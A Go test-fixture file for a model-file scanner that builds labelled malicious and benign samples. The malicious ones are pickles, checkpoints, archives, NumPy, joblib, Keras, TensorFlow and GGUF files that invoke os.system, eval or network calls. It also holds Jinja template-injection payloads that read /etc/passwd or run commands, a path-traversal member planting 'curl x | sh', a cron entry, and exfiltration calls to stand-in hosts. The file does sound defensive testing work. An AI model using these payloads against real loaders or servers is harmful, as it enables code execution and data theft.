package testmodel

import (
	"encoding/json"
	"fmt"
)

// Sample is one labelled case of the safety suite: the files of a release
// and what an audit of it must report.
type Sample struct {
	Name string
	// Class groups samples by the technique or format they exercise.
	Class     string
	Malicious bool
	Files     map[string][]byte
	// Code is the finding a malicious sample must raise (format.*), and
	// Contains a phrase its message must hold. Benign samples raise
	// neither format.code-execution nor format.malformed.
	Code, Contains string
}

// SafetySuite returns the labelled samples of model files this project
// audits against: its own byte-level constructions of the classes of
// samples that the dedicated scanners' test suites hold (picklescan's
// advisory samples, ModelAudit's and fickling's generators, modelscan's),
// written from their descriptions, never copied, and never loaded.
func SafetySuite() []Sample {
	var s []Sample
	mal := func(class, name, file string, data []byte, code, contains string) {
		s = append(s, Sample{Name: name, Class: class, Malicious: true, Files: map[string][]byte{file: data}, Code: code, Contains: contains})
	}
	ok := func(class, name string, files map[string][]byte) {
		s = append(s, Sample{Name: name, Class: class, Files: files})
	}
	const ce, mf = "format.code-execution", "format.malformed"

	// Pickles that call a dangerous callable, by protocol and opcode.
	reduce := func(proto int, how Import, module, name string) []byte {
		return MaliciousPickle(proto, how, module, name, "payload")
	}
	for _, proto := range []int{0, 2, 3, 4, 5} {
		mal("pickle/code-loading", fmt.Sprintf("eval, protocol %d", proto), "malicious.pkl", reduce(proto, ViaGlobal, pyBuiltins(proto), "eval"), ce, "eval (code loading")
		mal("pickle/process", fmt.Sprintf("os.system, protocol %d", proto), "malicious.pkl", reduce(proto, ViaGlobal, "posix", "system"), ce, "posix.system (process")
	}
	for _, c := range []struct{ module, name, category string }{
		{"http.client", "HTTPSConnection", "network"}, {"httplib", "HTTPSConnection", "network"},
		{"requests.api", "get", "network"}, {"aiohttp.client", "ClientSession", "network"},
		{"socket", "create_connection", "network"}, {"urllib.request", "urlopen", "network"},
		{"ssl", "get_server_certificate", "network"}, {"smtplib", "SMTP", "network"}, {"ftplib", "FTP", "network"},
		{"webbrowser", "open", "process"}, {"subprocess", "run", "process"}, {"subprocess", "Popen", "process"},
		{"pty", "spawn", "process"}, {"pip", "main", "process"}, {"venv", "create", "process"},
		{"pydoc", "pipepager", "process"}, {"imaplib", "IMAP4_stream", "process"}, {"uuid", "_get_command_stdout", "process"},
		{"_osx_support", "_read_output", "process"}, {"_aix_support", "_read_cmd_output", "process"},
		{"asyncio.unix_events", "_UnixSubprocessTransport._start", "process"}, {"torch.utils.collect_env", "run", "process"},
		{"torch.utils.collect_env", "run_and_read_all", "process"}, {"torch._inductor.codecache", "compile_file", "process"},
		{"ensurepip", "_run_pip", "process"}, {"os", "popen", "process"}, {"nt", "system", "process"},
		{"sys", "exit", "interpreter"}, {"ctypes", "CDLL", "interpreter"},
		{"builtins", "exec", "code loading"}, {"builtins", "compile", "code loading"}, {"builtins", "__import__", "code loading"},
		{"builtins", "open", "file"}, {"io", "FileIO", "file"}, {"io", "open", "file"}, {"shutil", "rmtree", "file"},
		{"logging", "FileHandler", "file"}, {"distutils.file_util", "write_file", "file"}, {"linecache", "getline", "file"},
		{"_pickle", "loads", "code loading"}, {"pickle", "loads", "code loading"}, {"marshal", "loads", "code loading"},
		{"types", "CodeType", "code loading"}, {"types", "FunctionType", "code loading"}, {"importlib", "import_module", "code loading"},
		{"runpy", "_run_code", "code loading"}, {"bdb", "Bdb.run", "code loading"}, {"pdb", "run", "code loading"},
		{"timeit", "timeit", "code loading"}, {"cProfile", "run", "code loading"}, {"cProfile", "runctx", "code loading"},
		{"profile", "Profile.run", "code loading"}, {"profile", "Profile.runctx", "code loading"},
		{"trace", "Trace.run", "code loading"}, {"trace", "Trace.runctx", "code loading"},
		{"code", "InteractiveInterpreter.runcode", "code loading"}, {"doctest", "debug_script", "code loading"},
		{"idlelib.pyshell", "ModifiedInterpreter.runcode", "code loading"}, {"idlelib.pyshell", "ModifiedInterpreter.runcommand", "code loading"},
		{"idlelib.run", "Executive.runcode", "code loading"}, {"idlelib.autocomplete", "AutoComplete.get_entity", "code loading"},
		{"idlelib.autocomplete", "AutoComplete.fetch_completions", "code loading"}, {"idlelib.calltip", "Calltip.fetch_tip", "code loading"},
		{"idlelib.calltip", "get_entity", "code loading"}, {"idlelib.debugobj", "ObjectTreeItem.SetText", "code loading"},
		{"lib2to3.pgen2.grammar", "Grammar.loads", "code loading"}, {"lib2to3.pgen2.pgen", "ParserGenerator.make_label", "code loading"},
		{"numpy.testing._private.utils", "runstring", "code loading"}, {"numpy.f2py.crackfortran", "getlincoef", "code loading"},
		{"torch.serialization", "load", "code loading"}, {"torch", "load", "code loading"},
		{"torch.utils.bottleneck.__main__", "run_cprofile", "code loading"}, {"torch.utils.bottleneck.__main__", "run_autograd_prof", "code loading"},
		{"torch._dynamo.guards", "GuardBuilder.get", "code loading"}, {"torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "code loading"},
		{"torch.jit.unsupported_tensor_ops", "execWrapper", "code loading"}, {"torch.utils._config_module", "ConfigModule.load_config", "code loading"},
		{"torch.utils.data.datapipes.utils.decoder", "basichandlers", "code loading"}, {"dill", "loads", "code loading"},
		{"cloudpickle.cloudpickle", "_make_function", "code loading"}, {"operator", "methodcaller", "reflection"},
		{"builtins", "getattr", "reflection"}, {"functools", "partial", "reflection"},
	} {
		mal("pickle/"+c.category, c.module+"."+c.name, "malicious.pkl", reduce(4, ViaStackGlobal, c.module, c.name), ce, c.module+"."+c.name+" ("+c.category)
	}
	// Ways to hide the import from a walker.
	for how, name := range map[Import]string{ViaInst: "INST", ViaMemo: "memo", ViaMemoShadow: "memo shadowing", ViaHidden: "operands built at load time"} {
		mal("pickle/evasion", "os.system through "+name, "model.pkl", reduce(2, how, "os", "system"), ce, "known to run code")
	}
	mal("pickle/evasion", "STACK_GLOBAL operands from UNICODE and the memo", "model.pkl", protocol0StackGlobal(), ce, "os.system")
	mal("pickle/evasion", "STACK_GLOBAL operands as STRING", "model.pkl", NewPickler(0).PyString("os").PyString("system").StackGlobal().PyString("ls").TupleN(1).Reduce().Stop(), ce, "os.system")
	mal("pickle/evasion", "STACK_GLOBAL with an integer operand", "model.pkl", NewPickler(4).Int(42).Str("system").StackGlobal().Stop(), ce, "unknown.system")
	mal("pickle/evasion", "global after a short FRAME", "model.pkl", NewPickler(4).Frame(2).Str("ok").Pop().GlobalOpcode("os", "system").Str("id").TupleN(1).Reduce().Stop(), ce, "os.system")
	mal("pickle/evasion", "call before a failing memo fetch", "model.pkl", NewPickler(4).GlobalOpcode("os", "system").Str("id").TupleN(1).Reduce().Pop().Get(3).Stop(), ce, "os.system")
	mal("pickle/evasion", "truncated after the call", "model.pkl", NewPickler(3).GlobalOpcode("builtins", "exec").Mark().Str("x").Tuple().Reduce().Bytes(), ce, "builtins.exec")
	mal("pickle/evasion", "second stream after a benign one", "model.pkl", append(NewPickler(2).EmptyList().Stop(), reduce(2, ViaGlobal, "requests.api", "get")...), ce, "requests.api.get")
	mal("pickle/evasion", "Python 2 pickle module name", "model.pkl", reduce(0, ViaGlobal, "cPickle", "loads"), ce, "cPickle.loads")
	mal("pickle/evasion", "gadget chain: methodcaller over pydoc.locate", "model.pkl",
		NewPickler(4).Global("operator", "methodcaller").Str("system").Str("id").TupleN(2).Reduce().Global("pydoc", "locate").Str("os").TupleN(1).Reduce().TupleN(1).Reduce().Stop(), ce, "operator.methodcaller")
	mal("pickle/evasion", "classic globals/compile/eval chain", "model.pkl", sourPickle(), ce, "__builtin__.eval")
	mal("pickle/evasion", "sys.modules override", "model.pkl", NewPickler(2).Global("sys", "modules").Str("os").Global("builtins", "dict").EmptyTuple().Reduce().SetItem().Stop(), ce, "sys.modules")
	mal("pickle/bomb", "billion laughs, bottom up", "model.pkl", PickleBomb(4, 12, 10, false), mf, "expansion bomb")
	mal("pickle/bomb", "billion laughs, top down", "model.pkl", PickleBomb(2, 12, 10, true), mf, "expansion bomb")

	// The same payloads in the containers model files use.
	evil := reduce(4, ViaStackGlobal, "builtins", "eval")
	state := TorchStateDict(2, FixtureTensors, func(p *Pickler) { p.Call("posix", "system", "id") })
	torch := TorchZipWith("archive", state, FixtureTensors, nil)
	mal("pytorch", "zip checkpoint", "pytorch_model.bin", torch, ce, "posix.system")
	mal("pytorch", "zip checkpoint without an extension", "model", torch, ce, "posix.system")
	mal("pytorch", "zip checkpoint under an unknown extension", "weights.dat", torch, ce, "posix.system")
	mal("pytorch", "zip checkpoint named as safetensors", "model.safetensors", torch, mf, "its name (.safetensors) claims safetensors, but its content is pytorch")
	mal("pytorch", "zip checkpoint named as text", "notes.txt", torch, ce, "posix.system")
	mal("pytorch", "zip checkpoint named .zip", "model.zip", torch, ce, "posix.system")
	mal("pytorch", "pickle in tokenizer.json", "tokenizer.json", evil, mf, "its name (.json) claims no model format, but its content is pickle")
	mal("pytorch", "legacy checkpoint", "model.pt", legacyWith(evil), ce, "builtins.eval")
	mal("pytorch", "TorchScript constants.pkl", "model.pt", TorchZipWith("model", TorchStateDict(2, nil, nil), nil, map[string][]byte{"model/constants.pkl": evil}), ce, "builtins.eval")
	mal("archive", "zip of a pickle", "malicious1.zip", ZipArchive(false, Member{"data.pkl", evil}), ce, "builtins.eval")
	mal("archive", "zip of a pickle with a text name", "bundle.zip", ZipArchive(true, Member{"data.txt", evil}), ce, "builtins.eval")
	mal("archive", "7z of a pickle", "malicious1.7z", SevenZip(true, true, Member{"data.pkl", evil}), ce, "builtins.eval")
	mal("archive", "7z stored", "model.7z", SevenZip(false, false, Member{"data.pkl", evil}), ce, "builtins.eval")
	mal("archive", "tar of a checkpoint", "model.tar", TarArchive(false, Member{"model/pytorch_model.bin", torch}), ce, "posix.system")
	mal("archive", "tar.gz of a pickle", "model.tar.gz", TarArchive(true, Member{"model.pkl", evil}), ce, "builtins.eval")
	mal("archive", "zip in a zip", "outer.zip", ZipArchive(false, Member{"inner.zip", ZipArchive(true, Member{"data.pkl", evil})}), ce, "builtins.eval")
	mal("archive", "member leaving the folder", "model.zip", ZipArchive(false, Member{"model.safetensors", TinySafetensors()}, Member{"../../.bashrc", []byte("curl x | sh\n")}), mf, "path traversal")
	mal("archive", "absolute member path", "model.tar", TarArchive(false, Member{"/etc/cron.d/x", []byte("* * * * * root id\n")}), mf, "absolute path")

	// NumPy, joblib, skops.
	npyEvil := NPYObjectArray(1, func(p *Pickler) { p.Call("ssl", "get_server_certificate", "exfil.invalid") })
	mal("numpy", "object array", "dns_exfiltration.npy", npyEvil, ce, "ssl.get_server_certificate")
	mal("numpy", "object array in an npz", "arrays.npz", NPZ(false, map[string][]byte{"a": npyEvil}), ce, "ssl.get_server_certificate")
	mal("numpy", "object array in a compressed npz", "arrays.npz", NPZ(true, map[string][]byte{"a": npyEvil, "b": NPY("<i8", false, []int64{3}, make([]byte, 24))}), ce, "ssl.get_server_certificate")
	mal("numpy", "object array named as a pickle", "data.pkl", npyEvil, ce, "ssl.get_server_certificate")
	arrays := []JoblibArray{{Name: "coef_", DType: "f8", Shape: []int64{2, 3}}, {Name: "classes_", DType: "i8", Shape: []int64{2}}}
	for _, comp := range []string{"", "zlib", "gzip", "lzma", "xz", "lz4", "legacy-zlib"} {
		mal("joblib", "joblib "+cmpOr(comp, "uncompressed"), "model.joblib", Joblib(comp, arrays, func(p *Pickler) { p.Call("posix", "system", "id") }), ce, "posix.system")
	}
	mal("joblib", "joblib bz2", "model.joblib", Joblib("bz2", JoblibBZ2Arrays, JoblibBZ2Extra), ce, "posix.system")
	mal("joblib", "compressed joblib named .pkl", "model.pkl", Joblib("zlib", arrays, func(p *Pickler) { p.Call("builtins", "exec", "x") }), ce, "builtins.exec")
	mal("skops", "function node", "model.skops", Skops(SkopsObject("sklearn.pipeline", "Pipeline", map[string]any{"steps": []any{SkopsFunction("posix", "system")}}), nil), ce, "posix.system")
	mal("skops", "eval as a function", "model.skops", Skops(SkopsObject("sklearn.preprocessing._function_transformer", "FunctionTransformer", map[string]any{"func": SkopsFunction("builtins", "eval")}), nil), ce, "builtins.eval")
	mal("skops", "untrusted class", "model.skops", Skops(SkopsObject("evil_pkg.models", "Backdoor", nil), nil), ce, "evil_pkg.models.Backdoor")

	// TensorFlow and Keras.
	graph := []TFNode{{Name: "x", Op: "Placeholder"}, {Name: "w", Op: "Const"}, {Name: "y", Op: "MatMul"}}
	mal("tensorflow", "PyFunc", "saved_model.pb", TFSavedModel(TFGraphDef(append(graph, TFNode{Name: "py", Op: "PyFunc"}))), ce, "run Python functions (PyFunc)")
	mal("tensorflow", "EagerPyFunc in a tf.function", "saved_model.pb", TFSavedModel(TFGraphDef(graph, TFFunction{Name: "__inference_f_1", Nodes: []TFNode{{Name: "e", Op: "EagerPyFunc"}}})), ce, "EagerPyFunc")
	mal("tensorflow", "WriteFile", "saved_model.pb", TFSavedModel(TFGraphDef(append(graph, TFNode{Name: "w", Op: "WriteFile"}))), ce, "read or write files (WriteFile)")
	mal("tensorflow", "ReadFile", "saved_model.pb", TFSavedModel(TFGraphDef(append(graph, TFNode{Name: "r", Op: "ReadFile"}))), ce, "ReadFile")
	mal("tensorflow", "frozen graph with PyFunc", "frozen_graph.pb", []byte(TFGraphDef(append(graph, TFNode{Name: "py", Op: "PyFuncStateless"}))), ce, "PyFuncStateless")
	mal("keras", "Lambda layer", "model.keras", KerasArchive(`{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}]}}`), ce, "Lambda layer")

	// Chat templates (server-side template injection).
	for name, tpl := range hostileTemplates {
		cfg, _ := json.Marshal(map[string]any{"tokenizer_class": "LlamaTokenizer", "chat_template": tpl})
		mal("chat-template", name, "tokenizer_config.json", cfg, ce, "chat template that reaches Python internals")
	}
	mal("chat-template", "GGUF tokenizer.chat_template", "model.gguf", GGUF{KV: []KV{
		{Key: "general.architecture", Value: String("llama")}, {Key: "tokenizer.chat_template", Value: String(hostileTemplates["subclasses walk"])},
	}}.Bytes(), ce, "tokenizer.chat_template is a chat template")
	mal("chat-template", "chat_template.jinja", "chat_template.jinja", []byte(hostileTemplates["globals of cycler"]), ce, "__init__ at offset")

	// Benign samples.
	ok("pickle", "list, protocol 0", map[string][]byte{"benign.pkl": listPickle(0)})
	ok("pickle", "list, protocol 3", map[string][]byte{"benign.pkl": listPickle(3)})
	ok("pickle", "list, protocol 4", map[string][]byte{"benign.pkl": listPickle(4)})
	ok("pickle", "dict of values", map[string][]byte{"state.pkl": NewPickler(4).EmptyDict().Mark().Str("a").Int(0).Str("b").Float(1.5).Str("c").Bool(true).SetItems().Stop()})
	ok("pickle", "containers from collections", map[string][]byte{"state.pkl": NewPickler(2).EmptyList().Mark().
		Call("collections", "OrderedDict").Call("collections", "deque").
		Global("collections", "defaultdict").Global("builtins", "list").TupleN(1).Reduce().
		Call("collections", "Counter").Global("collections.abc", "Mapping").
		Global("builtins", "set").Mark().Int(1).Int(2).Tuple().TupleN(1).Reduce().
		Global("builtins", "frozenset").EmptyTuple().Reduce().Global("builtins", "len").Appends().Stop()})
	ok("pickle", "a __future__ feature", map[string][]byte{"flags.pkl": NewPickler(4).Global("__future__", "annotations").Stop()})
	ok("pickle", "numpy scalar and array", map[string][]byte{"metrics.pkl": NewPickler(2).EmptyDict().Mark().
		Str("best").Global("numpy.core.multiarray", "scalar").Global("numpy", "dtype").Mark().Str("f8").Bool(false).Bool(true).Tuple().Reduce().BytesValue(make([]byte, 8)).TupleN(2).Reduce().
		Str("hist").Global("numpy.core.multiarray", "_reconstruct").Global("numpy", "ndarray").Mark().Int(0).Tuple().BytesValue([]byte("b")).TupleN(3).Reduce().
		SetItems().Stop()})
	ok("pickle", "torch.nn containers", map[string][]byte{"modules.pkl": NewPickler(2).Global("torch.nn.modules.container", "ModuleList").EmptyTuple().NewObj().EmptyDict().Build().Stop()})
	ok("pickle", "long flat list", map[string][]byte{"data.pkl": longList()})
	ok("pickle", "framed protocol 4 stream", map[string][]byte{"data.pkl": framedPickle()})
	ok("pytorch", "zip state dict, protocol 2", map[string][]byte{"pytorch_model.bin": TorchZip("archive", 2, FixtureTensors)})
	ok("pytorch", "zip state dict, protocol 4", map[string][]byte{"model.pt": TorchZip("model", 4, FixtureTensors)})
	ok("pytorch", "legacy state dict", map[string][]byte{"pytorch_model.bin": TorchLegacy(2, FixtureTensors)})
	ok("numpy", "integer array", map[string][]byte{"int_array.npy": NPY("<i8", false, []int64{2, 2}, make([]byte, 32))})
	ok("numpy", "object array of tuples", map[string][]byte{"object_array.npy": NPYObjectArray(2, func(p *Pickler) { p.Mark().Int(1).Int(2).Tuple().Mark().Int(3).Int(4).Tuple() })})
	ok("numpy", "npz", map[string][]byte{"int_arrays.npz": NPZ(false, map[string][]byte{"a": NPY("<i8", false, []int64{3}, make([]byte, 24))})})
	ok("numpy", "compressed npz", map[string][]byte{"int_arrays_compressed.npz": NPZ(true, map[string][]byte{"a": NPY("<f4", false, []int64{3}, make([]byte, 12))})})
	ok("joblib", "dict of arrays", map[string][]byte{"arrays.joblib": Joblib("zlib", arrays, nil)})
	ok("joblib", "uncompressed dict of arrays", map[string][]byte{"arrays.joblib": Joblib("", arrays, nil)})
	ok("skops", "LogisticRegression", map[string][]byte{"model.skops": SkopsEstimator()})
	ok("tensorflow", "SavedModel", map[string][]byte{"saved_model.pb": TFSavedModel(TFGraphDef(append(graph, TFNode{Name: "save/RestoreV2", Op: "RestoreV2"})))})
	ok("archive", "zip of safetensors and a card", map[string][]byte{"release.zip": ZipArchive(true, Member{"model.safetensors", TinySafetensors()}, Member{"README.md", []byte("# model\n")})})
	ok("archive", "7z of a benign pickle", map[string][]byte{"data.7z": SevenZip(true, true, Member{"data.pkl", listPickle(4)})})
	ok("archive", "tar of a checkpoint", map[string][]byte{"model.tar": TarArchive(false, Member{"pytorch_model.bin", TorchZip("archive", 2, FixtureTensors)})})
	ok("keras", "Sequential without Lambda", map[string][]byte{"model.keras": KerasArchive(`{"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"name": "dense", "units": 4}}]}}`)})
	ok("safetensors", "safetensors", map[string][]byte{"model.safetensors": TinySafetensors()})
	for name, tpl := range benignTemplates {
		cfg, _ := json.Marshal(map[string]any{"tokenizer_class": "LlamaTokenizer", "chat_template": tpl})
		ok("chat-template", name, map[string][]byte{"tokenizer_config.json": cfg})
	}
	ok("chat-template", "GGUF with an ordinary template", map[string][]byte{"model.gguf": GGUF{KV: []KV{
		{Key: "general.architecture", Value: String("llama")}, {Key: "tokenizer.chat_template", Value: String(benignTemplates["chatml"])},
	}}.Bytes()})
	// A scikit-learn estimator pickled with joblib: its class is not on
	// the allow-list, so it is reported by design (loading it imports and
	// builds a class modelvet cannot vouch for).
	ok("joblib", "scikit-learn estimator", map[string][]byte{"model.joblib": Joblib("zlib", arrays, func(p *Pickler) {
		p.Global("sklearn.linear_model._logistic", "LogisticRegression").EmptyTuple().NewObj().EmptyDict().Build()
	})})
	return s
}

func cmpOr(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func pyBuiltins(proto int) string {
	if proto < 3 {
		return "__builtin__"
	}
	return "builtins"
}

func listPickle(proto int) []byte {
	p := NewPickler(proto).EmptyList()
	if proto == 0 {
		for _, v := range []string{"a", "b", "c"} {
			p.Str(v).Raw('a')
		}
		return p.Stop()
	}
	return p.Mark().Str("a").Str("b").Str("c").Appends().Stop()
}

func longList() []byte {
	p := NewPickler(2).EmptyList().Mark()
	for i := range 5000 {
		p.Int(int64(i))
	}
	return p.Appends().Stop()
}

// framedPickle is a protocol 4 stream split into frames, as CPython's
// pickler writes streams over 64 KiB.
func framedPickle() []byte {
	body := NewPickler(0)
	body.Raw(']').Raw('(')
	for i := range 100 {
		body.Raw(0x8c, 4).Raw([]byte(fmt.Sprintf("s%03d", i))...)
	}
	body.Raw('e')
	b := body.Bytes()
	p := NewPickler(4).Frame(uint64(len(b) + 1)).Raw(b...)
	return p.Raw('.').Bytes()
}

// protocol0StackGlobal writes the memo trick of a known CTF: module and
// name stored as UNICODE in the memo, fetched for STACK_GLOBAL, with a
// harmless pair stored between them.
func protocol0StackGlobal() []byte {
	p := NewPickler(0)
	p.Raw([]byte("Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n")...).StackGlobal()
	p.Raw([]byte("(Vcat flag.txt\ntR")...)
	return p.Stop()
}

// sourPickle is the classic protocol 0 chain: globals(), compile() of a
// source string, eval() of the code, a getattr on dict.get.
func sourPickle() []byte {
	p := NewPickler(0)
	p.GlobalOpcode("__builtin__", "globals").Mark().Tuple().Reduce().Put(100).Pop()
	p.GlobalOpcode("__builtin__", "compile").Mark().PyString("x = 1").PyString("").PyString("exec").Tuple().Reduce().Put(101).Pop()
	p.GlobalOpcode("__builtin__", "eval").Mark().Get(101).Get(100).Tuple().Reduce().Put(102).Pop()
	p.GlobalOpcode("__builtin__", "getattr").Mark().GlobalOpcode("__builtin__", "dict").PyString("get").Tuple().Reduce().Put(103).Pop()
	p.GlobalOpcode("__builtin__", "apply").Mark().Get(103).Mark().Get(100).PyString("x").Raw('l').Tuple().Reduce()
	return p.Stop()
}

// legacyWith returns a legacy PyTorch file whose object pickle is obj.
func legacyWith(obj []byte) []byte {
	full := TorchLegacy(2, nil)
	// The legacy file is magic, protocol, sys info, object, keys: replace
	// the object (the fourth stream) with obj.
	streams := splitStreams(full)
	return append(append(append(append(append([]byte{}, streams[0]...), streams[1]...), streams[2]...), obj...), streams[4]...)
}

// splitStreams cuts concatenated pickles at each STOP that ends a stream
// of this package's builders (which never write '.' inside arguments of
// these fixtures).
func splitStreams(b []byte) [][]byte {
	var out [][]byte
	start := 0
	for i := 0; i < len(b); i++ {
		if b[i] == '.' && (i+1 == len(b) || b[i+1] == 0x80) {
			out = append(out, b[start:i+1])
			start = i + 1
		}
	}
	return out
}

// hostileTemplates are chat-template payloads of the classes template
// injection takes.
var hostileTemplates = map[string]string{
	"subclasses walk":       "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}",
	"builtins eval":         "{{ __builtins__['eval']('1') }}",
	"mro walk":              "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
	"self globals":          "{{ self.__init__.__globals__['__builtins__']['__import__']('os').environ }}",
	"globals of cycler":     "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
	"config object":         "{{ config.__class__.__base__.__subclasses__()[104].__init__.__globals__['sys'].modules['subprocess'].call(['id']) }}",
	"request object":        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
	"hex escapes":           "{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f']['\\x5f\\x5fbuiltins\\x5f\\x5f']['eval']('1') }}",
	"attr filter":           "{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1) }}",
	"set then use":          "{% set x = cycler.__init__.__globals__ %}{{ x.os.system('id') }}",
	"joiner":                "{{ joiner.__init__.__globals__.__builtins__.__import__('urllib.request').urlopen('http://x.invalid') }}",
	"character codes":       "{{ ().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__[''.join([chr(95), chr(95)])] }}",
	"getattr":               "{{ getattr(getattr('', '__class__'), '__mro__') }}",
	"format call":           "{{ '{}'.format(cycler.__init__.__globals__.os.system('id')) }}",
	"lipsum":                "{{ lipsum.__globals__['os'].popen('id').read() }}",
	"joined dunder":         "{{ ''['__cla' ~ 'ss__'] }}",
	"namespace":             "{% set ns = namespace(x=1) %}{{ namespace.__init__.__globals__ }}",
	"template import":       "{% import 'os' as os %}{{ messages[0]['content'] }}",
	"ordinary then payload": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
}

// benignTemplates are ordinary chat templates of the shapes model
// families use.
var benignTemplates = map[string]string{
	"llama 2":           "{% for message in messages %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'system' %}{{ '<<SYS>>\\n' + message['content'] + '\\n<</SYS>>\\n\\n' }}{% elif message['role'] == 'assistant' %}{{ ' ' + message['content'] + ' ' + eos_token }}{% endif %}{% endfor %}",
	"roles":             "{% for message in messages %}{{ message['role'].title() }}: {{ message['content'] }}\\n{% endfor %}",
	"system first":      "{% if messages[0]['role'] == 'system' %}{{ messages[0]['content'] }}\\n{% endif %}{% for message in messages[1:] %}{% if message['role'] == 'user' %}User: {{ message['content'] }}{% elif message['role'] == 'assistant' %}Assistant: {{ message['content'] }}{% endif %}{% if not loop.last %}\\n{% endif %}{% endfor %}",
	"chatml":            "{% for message in messages %}<|im_start|>{{ message['role'] }}\\n{{ message['content'] }}<|im_end|>\\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\\n{% endif %}",
	"namespace counter": "{%- set ns = namespace(found=false) -%}{%- for message in messages -%}{%- if message['role'] == 'system' -%}{%- set ns.found = true -%}{%- endif -%}{%- endfor -%}{{ bos_token }}{% if not ns.found %}{{ 'You are helpful.' }}{% endif %}",
	"raise exception":   "{% if messages|length == 0 %}{{ raise_exception('no messages') }}{% endif %}{% for m in messages %}{{ m.content | trim }}{% endfor %}",
	"class attribute":   "{% for message in messages %}{% if message.class == 'important' %}IMPORTANT: {% endif %}{{ message.content }}{% endfor %}",
	"tools":             "{%- if tools %}{{- '# Tools\\n' }}{%- for tool in tools %}{{- tool | tojson }}{%- endfor %}{%- endif %}{%- for message in messages %}{{- message.content }}{%- if message.tool_calls %}{%- for tool_call in message.tool_calls %}{{- tool_call.function.name }}{%- endfor %}{%- endif %}{%- endfor %}",
}
